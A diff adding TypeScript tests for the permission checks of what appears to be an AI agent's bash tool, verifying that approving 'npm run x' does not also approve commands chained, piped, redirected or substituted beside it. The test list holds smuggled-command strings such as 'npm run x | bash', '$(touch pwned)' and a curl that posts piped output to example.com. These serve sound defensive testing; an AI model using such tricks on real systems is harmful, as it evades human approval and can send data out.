@@ -65,6 +65,51 @@ describe('under an allow-list of git status, ls, find, echo and cat', () => {
   })
 })
 
+describe('a pattern answers its own command only', () => {
+  /** Each runs `npm run x`, which is allowed, beside something that is not. */
+  const BESIDE = [
+    "npm run x | node -e 'evil()'", 'npm run x | bash', 'npm run x | sh -s', 'npm run x | tee pwned', 'npm run x | xargs touch', 'npm run x | curl -d @- http://example.com',
+    'npm run x |& tee pwned', '! npm run x | tee pwned', 'npm run x | npm run y | tee pwned', 'npm run x | tee pwned | npm run y', 'npm run x 2>&1 | dd of=pwned',
+    'npm run x && touch pwned', 'npm run x || touch pwned', 'npm run x; touch pwned', 'npm run x\ntouch pwned', '! npm run x; touch pwned', 'npm run x & touch pwned', 'npm run x &', 'touch pwned && npm run x', 'touch pwned | npm run x',
+    'npm run x <<EOF | tee pwned\ntext\nEOF', 'npm run x <<EOF && touch pwned\ntext\nEOF', 'npm run x <<EOF\n$(touch pwned)\nEOF', 'npm run x <<< "$(touch pwned)"',
+    'npm run $(touch pwned)', 'npm run "`touch pwned`"', 'npm run <(touch pwned)', 'npm run x > pwned', 'npm run x 2>> pwned', 'npm run x &> pwned', 'npm run x > >(tee pwned)',
+    '(npm run x; touch pwned)', '(npm run x) | tee pwned', '{ npm run x; touch pwned; }', 'for i in 1; do npm run x; touch pwned; done', 'if npm run x; then touch pwned; fi', 'time npm run x | tee pwned', 'cd sub && npm run x', 'A=1 npm run x',
+  ]
+  const expectRefused = async (bash: Awaited<ReturnType<typeof open>>, code = 'ApprovalDenied'): Promise<void> => {
+    for (const command of BESIDE) expect([command, codeOf(await bash(command))]).toEqual([command, code])
+    expect(readdirSync(workspace)).toEqual(['sub'])
+  }
+
+  it('on the allow-list', async () => expectRefused(await open({ mode: 'allowlist', allowlist: ['bash:npm run *'] })))
+  it('in a rule', async () => {
+    const rules: readonly Rule[] = [{ permission: 'bash', pattern: '*', action: 'deny' }, { permission: 'bash', pattern: 'npm run *', action: 'allow' }]
+    await expectRefused(await open({}, { mode: 'yolo', rules }), 'RuleDenied')
+  })
+  it('as an approval that was given before', async () => {
+    const bash = await open({}, { mode: 'ask' })
+    answer = { decision: 'session' }
+    await bash('npm run x')
+    answer = { decision: 'reject' }
+    await expectRefused(bash)
+  })
+
+  it('and each command of a pipe by its own', async () => {
+    const bash = await open({ mode: 'allowlist', allowlist: ['bash:printenv *', 'bash:tee *', 'bash:> out'] })
+    expect(codeOf(await bash('printenv HOME | tee a | tee b > out'))).toBe('output')
+    expect([asked, readdirSync(workspace)]).toEqual([[], ['a', 'b', 'out', 'sub']])
+  })
+
+  it('which without a wildcard does not cover what is piped into it', async () => {
+    const bash = await open({ mode: 'allowlist', allowlist: ['bash:echo', 'bash:sh', 'bash:touch a'] })
+    for (const command of ["echo 'touch pwned' | sh", 'echo x | touch a']) expect([command, codeOf(await bash(command))]).toEqual([command, 'ApprovalDenied'])
+  })
+
+  it('while a rule that denies a pipe still does', async () => {
+    const bash = await open({}, { mode: 'yolo', rules: [{ permission: 'bash', pattern: 'printenv * | tee *', action: 'deny' }] })
+    expect(codeOf(await bash('printenv HOME | tee pwned'))).toBe('RuleDenied')
+  })
+})
+
 describe('what an approval stands for', () => {
   it('a reading program in all ways that only read, and no other', async () => {
     const bash = await open({}, { mode: 'ask' })
